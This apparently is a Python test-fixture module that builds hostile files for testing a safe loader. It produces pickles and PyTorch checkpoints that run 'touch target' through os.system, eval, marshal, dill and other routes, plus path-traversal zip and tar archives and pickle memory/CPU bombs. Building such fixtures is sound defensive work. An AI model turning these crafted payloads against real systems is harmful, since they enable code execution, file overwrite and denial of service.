"""Files that try to run something: each, read by the reader it was made for, creates the file `target`."""

from __future__ import annotations

import copyreg
import io
import marshal
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import dill
import torch

MAGIC = 0x1950A86A20F9469CFC6C
EXTENSION = 0x7A
"""A code of copyreg's that nothing else uses."""


def text(value: str) -> bytes:
    """Push a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def blob(value: bytes) -> bytes:
    """Push bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(path: str) -> bytes:
    """Push what a global of protocol 0 stands for."""
    module, _, attribute = path.rpartition(".")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def call(function: bytes, *arguments: bytes) -> bytes:
    """Push what a function returns."""
    return function + b"(" + b"".join(arguments) + b"tR"


def program(*code: bytes) -> bytes:
    return b"\x80\x03" + b"".join(code) + b"."


class Calls:
    """What a pickler writes as a call of a function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.reduced = (function, arguments)

    def __reduce__(self) -> Any:
        return self.reduced


def pickles(target: Path) -> Iterator[tuple[str, bytes]]:
    """Yield pickles that `pickle.loads` is caught by, each with what it is about."""
    path = text(str(target))
    touch = text(f"touch {target}")
    source = text(f"open({str(target)!r}, 'w').close()")
    code = compile(f"open({str(target)!r}, 'w').close()", "<crafted>", "exec")
    system = call(name("os.system"), touch)
    yield "os.system, protocol 0", f"cos\nsystem\n(S'touch {target}'\ntR.".encode()
    yield "posix.system", program(call(name("posix.system"), touch))
    yield "os.system by STACK_GLOBAL", program(text("os"), text("system"), b"\x93", touch, b"\x85R")
    yield "subprocess.call", program(call(name("subprocess.call"), b"](" + text("touch") + path + b"e"))
    yield "subprocess.Popen by INST", b"(" + text("/usr/bin/touch " + str(target)) + b"ios\nsystem\n."
    yield "os.system by OBJ", program(b"(", name("os.system"), touch, b"o")
    yield "builtins.eval", program(call(name("builtins.eval"), source))
    yield "builtins.exec", program(call(name("builtins.exec"), source))
    yield "eval by its old name", b"c__builtin__\neval\n(" + source + b"tR."
    yield "builtins.open", program(call(name("builtins.open"), path, text("w")))
    yield "io.open", program(call(name("io.open"), path, text("w")))
    yield "os.mkdir", program(call(name("os.mkdir"), path))
    yield "logging.FileHandler", program(call(name("logging.FileHandler"), path))
    yield (
        "timeit.timeit",
        program(call(name("timeit.timeit"), source, text("pass"), name("time.perf_counter"), b"K\x01")),
    )
    yield (
        "getattr on an import",
        program(
            call(
                call(name("builtins.getattr"), call(name("builtins.__import__"), text("os")), text("system")),
                touch,
            )
        ),
    )
    yield (
        "operator.methodcaller",
        program(call(call(name("operator.methodcaller"), text("touch")), call(name("pathlib.Path"), path))),
    )
    partial = call(name("functools.partial"), name("os.system"), touch)
    yield (
        "functools.partial by NEWOBJ",
        program(name("functools.partial"), b"(", name("os.system"), touch, b"t\x81", b")R"),
    )
    yield (
        "functools.partial by NEWOBJ_EX",
        b"\x80\x04"
        + b"".join((name("functools.partial"), b"(", name("os.system"), touch, b"t}\x92", b")R.")),
    )
    yield (
        "map over a call",
        program(
            call(name("builtins.list"), call(name("builtins.map"), name("os.system"), b"](" + touch + b"e"))
        ),
    )
    yield (
        "BUILD through __setstate__",
        program(
            name("types.SimpleNamespace"),
            b")\x81",
            b"}",
            text("__setstate__"),
            name("os.system"),
            b"sb",
            touch,
            b"b",
        ),
    )
    yield (
        "marshal and FunctionType",
        program(
            call(
                call(
                    name("types.FunctionType"),
                    call(name("marshal.loads"), blob(marshal.dumps(code))),
                    call(name("builtins.dict")),
                )
            )
        ),
    )
    yield "a pickle in a pickle", program(call(name("_pickle.loads"), blob(program(system))))
    yield "dill.loads", program(call(name("dill.loads"), blob(program(system))))
    yield (
        "a function by dill",
        dill.dumps(Calls(lambda path: Path(path).touch(), str(target)), recurse=True),
    )
    yield (
        "code by dill",
        program(
            call(
                call(
                    name("dill._dill._create_function"),
                    call(name("marshal.loads"), blob(marshal.dumps(code))),
                    b"}",
                )
            )
        ),
    )
    yield "dill's eval", program(call(name("dill._dill._eval_repr"), source))
    yield "a storage within", program(call(name("torch.storage._load_from_bytes"), blob(_stream(target))))
    yield "an extension of copyreg", program(b"\x82" + bytes([EXTENSION]), touch, b"\x85R")
    yield "in a key", program(b"}", system, b"K\x01s")
    yield "in a list in a tuple in a set", program(b"(](", system, b"et", b"\x85")
    yield "dropped at once", program(system, b"0}")
    yield "from the memo", program(name("os.system"), b"q\x00", b"0h\x00", touch, b"\x85R")
    yield (
        "beside weights",
        program(
            b"}(", text("state_dict"), b"}", text("weight"), _tensor_call(), b"s", text("epoch"), system, b"u"
        ),
    )
    yield "in a tensor's hooks", program(_tensor_call(hooks=system))
    yield "by importing a module", program(name("crafted_module.anything"))
    yield "by a partial's state", program(partial, b")R")


def _tensor_call(hooks: bytes = b"}") -> bytes:
    with warnings.catch_warnings(action="ignore"):  # PyTorch's own pickling of storages says that it is old.
        storage = pickle.dumps(torch.zeros(2).storage(), protocol=3)[2:-1]
    return call(
        name("torch._utils._rebuild_tensor_v2"), storage, b"K\x00", b"K\x02\x85", b"K\x01\x85", b"\x89", hooks
    )


def _stream(target: Path) -> bytes:
    evil = Calls(os.system, f"touch {target}")
    return b"".join(
        pickle.dumps(part, protocol=2) for part in (MAGIC, 1001, {"little_endian": True}, evil, [])
    )


def torch_files(target: Path) -> Iterator[tuple[str, bytes]]:
    """Yield files that `torch.load(weights_only=False)` is caught by."""
    evil = Calls(os.system, f"touch {target}")
    for legacy in (False, True):
        file = io.BytesIO()
        torch.save(
            {"state_dict": {"a": torch.zeros(1)}, "x": evil}, file, _use_new_zipfile_serialization=not legacy
        )
        yield f"torch.save, {'stream' if legacy else 'zip'}", file.getvalue()
    parts: list[Any] = [MAGIC, 1001, {"little_endian": True}, {"a": 1}, []]
    for index, place in ((2, "system's record"), (4, "list of storages")):
        changed = [*parts[:index], evil, *parts[index + 1 :]]
        yield f"a stream's {place}", b"".join(pickle.dumps(part, protocol=2) for part in changed)
    yield (
        "a persistent id",
        b"".join(pickle.dumps(part, protocol=2) for part in parts[:3])
        + program(call(name("os.system"), text(f"touch {target}")), b"Q"),
    )
    for member in ("storages", "tensors", "pickle"):
        contents = {each: pickle.dumps(0, protocol=2) for each in ("storages", "tensors", "pickle")}
        contents["storages"] += pickle.dumps([], protocol=2)
        contents[member] = pickle.dumps(evil, protocol=2)
        yield f"a tar's {member}", tar_of(contents)


def archives(target: Path) -> Iterator[tuple[str, bytes]]:
    """Yield archives whose members land on `target` if they are unpacked into a folder beside it."""
    paths = {
        "..": f"../{target.name}",
        "a hidden ..": f"archive/../../{target.name}",
        "an absolute path": str(target),
    }
    for what, path in paths.items():
        yield f"a zip with {what}", zip_of({path: b"x"})
        yield f"a tar with {what}", tar_of({path: b"x"})
    for kind, what in (
        (tarfile.SYMTYPE, "symbolic link"),
        (tarfile.LNKTYPE, "hard link"),
        (tarfile.FIFOTYPE, "pipe"),
    ):
        file = io.BytesIO()
        with tarfile.open(fileobj=file, mode="w") as archive:
            link = tarfile.TarInfo("pickle")
            link.type, link.linkname = kind, f"../{target.name}"
            archive.addfile(link)
        yield f"a tar with a {what}", file.getvalue()
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo("archive/data.pkl")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, f"../../{target.name}")
    yield "a zip with a symbolic link", file.getvalue()


def huge(count: int) -> bytes:
    return struct.pack("<Q", count)


BOMBS = {
    "a memo of four thousand million": b"\x80\x04]r\xff\xff\xff\xff0N.",
    "bytes of a terabyte": b"\x80\x04\x8e" + huge(1 << 40) + b"x.",
    "an array of a terabyte": b"\x80\x05\x96" + huge(1 << 40) + b"x.",
    "a text of a terabyte": b"\x80\x04\x8d" + huge(1 << 40) + b"x.",
    "a frame of a terabyte": b"\x80\x04\x95" + huge(1 << 40) + b"N.",
    "a number of a gigabyte": b"\x80\x04\x8b" + struct.pack("<i", 1 << 30) + b"x.",
    "a number of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
    "lists in lists": b"\x80\x04" + b"]" + b"]" * 90_000 + b"a" * 90_000 + b".",
    "tuples doubled sixty times, as a key": b"\x80\x04}N\x85" + b"2\x86" * 60 + b"Ns.",
    "lists doubled sixty times": b"\x80\x04]" + b"q\x00h\x00h\x00\x86" * 60 + b".",
    "opcodes without end": b"\x80\x04" + b"]0" * 150_000 + b"N.",
    "marks without end": b"\x80\x04" + b"(" * 190_000 + b".",
    "a storage whose key is a tuple doubled 34 times": b"\x80\x04("
    + text("storage")
    + name("torch.FloatStorage")
    + b"N\x85"
    + b"2\x86" * 34
    + text("cpu")
    + b"K\x01tQ.",
    "one text made bytes 20,000 times": b"\x80\x04"
    + text("x" * 400_000)
    + b"q\x000]"
    + (name("_codecs.encode") + b"h\x00" + text("latin1") + b"\x86Ra") * 20_000
    + b".",
    "one list made a size 20,000 times": b"\x80\x04]("
    + b"N" * 100_000
    + b"eq\x000]"
    + (name("torch.Size") + b"h\x00\x85Ra") * 20_000
    + b".",
    "keys that collide": b"\x80\x04}("
    + b"".join(
        b"(" + b"".join(b"J" + struct.pack("<i", -1 - (i >> bit & 1)) for bit in range(15)) + b"tN"
        for i in range(10_000)
    )
    + b"u.",
    "one long name 1,000 times": b"\x80\x04"
    + text("x" * 400_000)
    + b"q\x000"
    + b"".join(b"h\x00" + text(str(i)) + b"\x930" for i in range(1_000))
    + b"N.",
    "no end": b"\x80\x04]",
    "an unknown opcode": b"\x80\x04\xff.",
    "an empty stack": b"\x80\x04R.",
    "a memo that is not there": b"\x80\x04h\x07.",
    "a protocol of tomorrow": b"\x80\x63N.",
    "a name that is no text": b"\x80\x04NN\x93.",
    "a buffer outside": b"\x80\x05\x97.",
    "one nested file read 1,000 times": b"\x80\x04"
    + blob(b"\x80\x02" + b"]0" * 100_000 + b"N.")
    + b"q\x000"
    + (name("torch.storage._load_from_bytes") + b"h\x00\x85R0") * 1_000
    + b"N.",
}
"""Pickles of a few megabytes at most that would take gigabytes, or minutes, of one who reads them as they ask."""


def zip_of(contents: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for path, data in contents.items():
            archive.writestr(zipfile.ZipInfo(path), data, compression)
    return file.getvalue()


def tar_of(contents: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for path, data in contents.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


class Extension:
    """While it lasts, copyreg's code stands for os.system."""

    def __enter__(self) -> None:
        copyreg.add_extension("os", "system", EXTENSION)

    def __exit__(self, *_: object) -> None:
        copyreg.remove_extension("os", "system", EXTENSION)
